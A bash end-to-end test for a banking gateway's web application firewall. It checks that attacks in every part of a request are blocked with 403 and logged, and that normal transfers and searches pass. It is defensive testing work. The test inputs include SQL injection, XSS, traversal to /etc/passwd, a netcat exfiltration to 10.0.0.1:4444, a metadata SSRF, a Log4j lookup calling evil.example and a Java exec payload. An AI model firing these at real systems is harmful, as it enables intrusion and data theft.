#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The WAF in the gateway: attacks in every place of a request are answered 403 and logged with their rule ids;
# ordinary banking traffic passes; modes and exclusions of a service do what they say.
. tests/e2e/lib.sh
e2e_start
staff=$(bearer staff)
base=(-H "$staff" -A "Mozilla/5.0 (e2e)" -H "Accept: application/json")

# blocked NAME PATH [curl options]: 403, and the record has the rules
blocked() {
	local name=$1
	shift
	get "$@" "${base[@]}"
	expect "$name is blocked" 403 '{"message":"Forbidden"}'
	local line
	line=$(record)
	is "$name is logged as blocked" "$(jq -r .waf <<<"$line")" block
	like "$name is logged with its rules" "$(jq -r .rules <<<"$line")" '^[0-9]+(,[0-9]+)*$'
	like "$name is logged with an explanation id" "$(jq -r .explain <<<"$line")" '^.{8,}$'
}
json=(-H "Content-Type: application/json")
form=(-H "Content-Type: application/x-www-form-urlencoded")
xml=(-H "Content-Type: application/xml")

blocked "SQL injection in the query" "/v1/accounts?id=1%27%20union%20select%20password%20from%20users--%20"
blocked "cross-site scripting in the query" "/v1/accounts?q=%3Cscript%3Ealert(1)%3C/script%3E"
blocked "file inclusion in the query" "/v1/accounts?file=../../../../etc/passwd"
blocked "command injection in the query" "/v1/accounts?cmd=%3Bcat%20/etc/passwd%7Cnc%2010.0.0.1%204444"
blocked "metadata SSRF in the query" "/v1/accounts?url=http://169.254.169.254/latest/meta-data/iam/"
blocked "Log4j in a header" /v1/accounts -H 'X-Api-Version: ${jndi:ldap://evil.example/a}'
blocked "Java deserialisation in a header" /v1/accounts -H 'X-Data: (java.lang.Runtime).getRuntime().exec("whoami")'
blocked "SQL injection in a cookie" /v1/accounts -H "Cookie: session=1' or '1'='1'--"
blocked "a path into WEB-INF" /v1/accounts/WEB-INF/web.xml
blocked "SQL injection in a form" /v1/accounts "${form[@]}" --data-raw "name=x&id=1'+union+select+1,2,3+from+users--"
blocked "cross-site scripting in JSON" /v1/accounts "${json[@]}" --data-raw '{"note":"<script>alert(document.cookie)</script>"}'
blocked "SQL injection deep in JSON" /v1/accounts "${json[@]}" --data-raw '{"a":{"b":[1,{"c":"1'"'"' or 1=1 union select null,version()--"}]}}'
blocked "command injection in XML" /v1/accounts "${xml[@]}" --data-raw '<?xml version="1.0"?><a><b>;cat /etc/passwd | nc 10.0.0.1 4444</b></a>'
blocked "SQL injection in multipart" /v1/accounts -F "id=1' union select password from users-- "
blocked "cross-site scripting in a chunked body" /v1/accounts --http1.1 "${json[@]}" -H 'Transfer-Encoding: chunked' --data-raw '{"note":"<script>alert(1)</script>"}'

passes() {
	local name=$1
	shift
	get "$@" "${base[@]}"
	expect "$name passes" 200
}
passes "a filtered list" "/v1/accounts/12345678/transactions?from=2026-10-01&to=2026-11-01&limit=50&cursor=eyJpZCI6MTIzfQ"
passes "a transfer" /v1/accounts/transfers "${json[@]}" --data-raw '{"from":"DE89370400440532013000","to":"GB29NWBK60161331926819","amount":{"currency":"EUR","value":"125.00"},"reference":"Invoice 2026/11-042, thank you"}'
passes "a reference in French" /v1/accounts/transfers "${json[@]}" --data-raw '{"reference":"Loyer de novembre - 2e étage, merci à vous"}'
passes "a form" /v1/accounts/search "${form[@]}" --data-raw "name=Anna+O%27Neill&city=K%C3%B6ln"

get "/v1/accounts?id=1%27%20or%201=1--" -A x
expect "without a token there is no WAF verdict to learn from" 401
get /v1/accounts "${base[@]}"
is "what passed is logged so" "$(record | jq -r .waf)" pass

{ printf '"'; head -c 60000 /dev/zero | tr '\0' a; } >"$E2E_DIR/long"
printf '%s' "<script>alert(1)</script>" >>"$E2E_DIR/long"
printf '"' >>"$E2E_DIR/long"
blocked "an attack at the end of a long body" /v1/accounts "${json[@]}" --data-binary "@$E2E_DIR/long"
